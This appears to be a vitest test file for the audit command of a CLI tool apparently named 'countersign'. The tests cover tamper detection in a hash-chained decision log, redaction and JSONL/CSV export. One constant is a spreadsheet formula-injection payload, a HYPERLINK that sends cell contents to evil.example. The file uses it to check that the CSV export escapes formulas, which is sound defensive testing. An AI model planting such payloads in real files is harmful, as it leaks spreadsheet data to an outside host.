import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { databaseEnv } from '../support/postgres/homes.ts';
import { onlyJson } from '../support/postgres/only-json.ts';
import { BUNDLE, type Connection, startServer, temporaryHome } from '../support/server.ts';

const OF_FILES = onlyJson('lines altered in files; database-audit.postgres.test.ts alters them in the database');

function countersign(home: string, ...args: string[]) {
  const env = { ...process.env, COUNTERSIGN_HOME: home, ...databaseEnv(home) };
  return spawnSync(process.execPath, [BUNDLE, ...args], { env, encoding: 'utf8' });
}

function exported(home: string) {
  const { stdout } = countersign(home, 'audit', '--export', 'jsonl');
  return stdout
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line));
}

async function proposed(on: Connection, ids: string[], settings: Record<string, unknown> = {}) {
  const { agent } = await on.call('create_agent', {
    name: '=Agent, of "notes"',
    capabilities: ['notes'],
    playbook: { rules: [{ name: 'all', propose: [{ type: 'note', params: { body: `for ${ids}` } }] }] },
    ...settings,
  });
  const run = await on.call('trigger_agent', { agent_id: agent.id, contact_ids: ids });
  return { agent, run_id: run.run_id, at: (id: string) => ({ run_id: run.run_id, contact_id: id, action_index: 0 }) };
}

const ids = ['p0', 'p1', 'p2', 'p3', 'p4', 'p5'];
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1)';
let home: string;

/** A home in which something of every kind was decided, its server gone. */
beforeAll(async () => {
  const server = await startServer();
  home = server.home;
  await server.call('import_contacts', { contacts: ids.map((id) => ({ id, email: `${id}@example.com` })) });
  const { agent, run_id, at } = await proposed(server, ids);
  await server.call('approve_action', await server.shown(at('p0')));
  await server.call('approve_action', await server.shown({ ...at('p1'), params: { body: 'edited' } }));
  await server.call('reject_action', { ...at('p2'), reason: FORMULA });
  const { review_token } = await server.call('list_pending_actions', { run_id, contact_id: 'p3' });
  await server.call('review_actions', { decision: 'approve', review_token });
  await server.call('delete_contact', { contact_id: 'p4' });
  await proposed(server, ['p5'], { approval: { auto_approve: ['note'] } });
  await server.call('delete_agent', { agent_id: agent.id });
  await server.close();
});
afterAll(() => fs.rmSync(home, { recursive: true, force: true }));

/** A copy that a test may spoil. */
function aCopy(): string {
  const copy = temporaryHome();
  fs.cpSync(home, copy, { recursive: true });
  onTestFinished(() => fs.rmSync(copy, { recursive: true, force: true }));
  return copy;
}

type Segment = { file: string; lines: string[]; write: (lines: string[], end?: string) => void };

/** The newest segment of the log, or one further back. */
function logOf(copy: string, which = -1): Segment {
  const folder = path.join(copy, 'log');
  const file = path.join(folder, fs.readdirSync(folder).sort().at(which) ?? '');
  const lines = fs.readFileSync(file, 'utf8').split('\n').slice(0, -1);
  return { file, lines, write: (next, end = '\n') => fs.writeFileSync(file, `${next.join('\n')}${end}`) };
}

describe('countersign audit', () => {
  it('finds the chain whole, and says how much was decided, how, and where it ends', () => {
    const { status, stdout, stderr } = countersign(home, 'audit');
    expect({ status, stderr }).toEqual({ status: 0, stderr: '' });
    expect(stdout).toContain('decision log: 7 entries');
    expect(stdout).toContain('decisions: approved 4, rejected 1, cancelled 2');
    expect(stdout).toContain('proof: client 6, policy 1');
    expect(stdout).toContain('redacted: 1');
    expect(stdout).toContain('bound to what was decided: 6 recomputed, 1 erased, 0 from before');
    expect(stdout).toMatch(/^head: [0-9a-f]{64}$/m);
  });

  it('exports who decided what as JSON lines, agents outlived', () => {
    const entries = exported(home);
    expect(entries.map(({ decision, edited, personal }) => [decision, edited, personal?.contact_id])).toEqual([
      ['approved', false, 'p0'],
      ['approved', true, 'p1'],
      ['rejected', false, 'p2'],
      ['approved', false, 'p3'],
      ['cancelled', false, undefined],
      ['approved', false, 'p5'],
      ['cancelled', false, 'p5'],
    ]);
    expect(entries[0]).toMatchObject({
      client: 'test-sdk-1 1.2.3',
      agent_name: '=Agent, of "notes"',
      agent_version: 1,
    });
    expect(entries[2].personal.reason).toBe(FORMULA);
  });

  it('exports the same as CSV that no spreadsheet executes', () => {
    const { stdout } = countersign(home, 'audit', '--export', 'csv');
    const rows: Record<string, string>[] = parse(stdout, { columns: true });
    expect(rows.map((row) => row.hash)).toEqual(exported(home).map((entry) => entry.hash));
    expect(rows[2]).toMatchObject({ reason: `'${FORMULA}`, agent_name: `'=Agent, of "notes"`, redacted: 'false' });
    const cells = rows.flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('stops quietly when its reader has gone', () => {
    const env = { ...process.env, COUNTERSIGN_HOME: home, ...databaseEnv(home) };
    const script = `"${process.execPath}" "${BUNDLE}" audit --export jsonl | head -n 1`;
    const { stdout, stderr } = spawnSync('sh', ['-c', script], { env, encoding: 'utf8' });
    expect(JSON.parse(stdout).seq).toBe(1);
    expect(stderr).toBe('');
  });

  it('knows whether it still holds a head that was kept elsewhere, of this edition or the first', () => {
    const head = /^head: (.*)$/m.exec(countersign(home, 'audit').stdout)?.[1] ?? 'none';
    const old = exported(home)[3].hash;
    for (const kept of [head, old]) expect(countersign(home, 'audit', '--expect-head', kept).status).toBe(0);
    const { status, stdout } = countersign(home, 'audit', '--expect-head', 'f'.repeat(64));
    expect(status).toBe(1);
    expect(stdout).toContain(`no commit has the head ${'f'.repeat(64)}`);
  });

  it('prints another head after every commit, and goes on to accept each of them', async () => {
    const server = await startServer();
    onTestFinished(() => server.close());
    const heads: string[] = [];
    const read = (...args: string[]) => countersign(server.home, 'audit', ...args);
    for (const id of ['zoe', 'yan', 'zoe']) {
      await server.call('import_contacts', { contacts: [{ id, company: `of ${heads.length}` }] });
      heads.push(/^head: (.*)$/m.exec(read().stdout)?.[1] ?? 'none');
    }
    await server.call('delete_contact', { contact_id: 'zoe' });
    expect(new Set(heads).size).toBe(3);
    for (const head of heads) expect(read('--expect-head', head)).toMatchObject({ status: 0 });
  });

  it('finds nothing in a home that is not there, and makes none', () => {
    const missing = path.join(temporaryHome(), 'nobody');
    const { status, stdout } = countersign(missing, 'audit');
    expect({ status, made: fs.existsSync(missing) }).toEqual({ status: 0, made: false });
    expect(stdout).toContain('nothing there yet');
    expect(countersign(missing, 'audit', '--export', 'jsonl')).toMatchObject({ status: 0, stdout: '' });
  });

  it('refuses a format that it does not write', () => {
    const { status, stdout, stderr } = countersign(home, 'audit', '--export', 'xml');
    expect({ status, stdout }).toEqual({ status: 1, stdout: '' });
    expect(stderr).toContain('--export takes jsonl or csv');
  });
});

OF_FILES.describe('a chain that someone touched', () => {
  it.each([
    ['an old line altered', 0, (lines: string[]) => lines.map((line) => line.replace('"rejected"', '"approved"'))],
    [
      'the newest line altered',
      -1,
      (lines: string[]) => lines.with(-1, `${lines.at(-1)?.replace('"by":"', '"by":"x')}`),
    ],
    ['a line gone', 0, (lines: string[]) => lines.toSpliced(5, 1)],
    ['two lines swapped', 0, (lines: string[]) => lines.with(4, lines[5] ?? '').with(5, lines[4] ?? '')],
  ])('is told, also in an export: %s', (_what, which, spoil) => {
    const copy = aCopy();
    const { file, lines, write } = logOf(copy, which);
    write(spoil(lines));
    const names = fs.readdirSync(copy, { recursive: true });
    expect(countersign(copy, 'audit')).toMatchObject({
      status: 1,
      stdout: expect.stringContaining(`fault: ${file} line`),
    });
    expect(countersign(copy, 'audit', '--export', 'jsonl')).toMatchObject({
      status: 1,
      stdout: expect.stringMatching(/^\{"seq":1/),
      stderr: expect.stringContaining(`fault: ${file} line`),
    });
    // Looking must not mend, set aside or make anything.
    expect(fs.readdirSync(copy, { recursive: true })).toEqual(names);
  });

  it('is still told after a server went on from there', async () => {
    const copy = aCopy();
    const { lines, write } = logOf(copy);
    write(lines.with(-1, (lines.at(-1) ?? '').replace('"by":"', '"by":"x')));
    const server = await startServer({ home: copy });
    await server.call('import_contacts', { contacts: [{ id: 'new', email: 'new@example.com' }] });
    await server.close();
    expect(countersign(copy, 'audit').status).toBe(1);
  });
});

describe('a decision log that lives on', () => {
  it('loses all trace of a deleted contact, and says how many entries that were', async () => {
    const server = await startServer();
    onTestFinished(() => server.close());
    await server.call('import_contacts', { contacts: [{ id: 'zoe-77' }, { id: 'other' }] });
    const first = await proposed(server, ['zoe-77', 'other']);
    await server.call('reject_action', { ...first.at('zoe-77'), reason: 'Zoe moved house' });
    await server.call('approve_action', await server.shown(first.at('other')));
    await proposed(server, ['zoe-77'], {
      playbook: { rules: [{ name: 'b', propose: [{ type: 'note', params: { body: 'b' } }] }] },
    });
    expect(await server.call('delete_contact', { contact_id: 'zoe-77' })).toMatchObject({ redacted: { decisions: 2 } });
    const entries = exported(server.home);
    expect(entries.map((entry) => entry.decision)).toEqual(['rejected', 'approved', 'cancelled']);
    expect(JSON.stringify(entries)).not.toMatch(/zoe|Zoe/);
    expect(countersign(server.home, 'audit')).toMatchObject({
      status: 0,
      stdout: expect.stringContaining('redacted: 2'),
    });
  });

  it('chains what two processes decide at once', async () => {
    const one = await startServer();
    const two = await startServer({ home: one.home });
    const many = Array.from({ length: 24 }, (_, i) => `m${i}`);
    await one.call('import_contacts', { contacts: many.map((id) => ({ id })) });
    const { at } = await proposed(one, many);
    const shown = await Promise.all(many.map((id) => one.shown(at(id))));
    await Promise.all(shown.map((yes, i) => (i % 2 ? one : two).call(i % 3 ? 'approve_action' : 'reject_action', yes)));
    await Promise.all([one.close(), two.close()]);
    expect(exported(one.home).map((entry) => entry.seq)).toEqual(many.map((_, i) => i + 1));
    expect(countersign(one.home, 'audit')).toMatchObject({ status: 0, stdout: expect.stringContaining('whole') });
  });
});
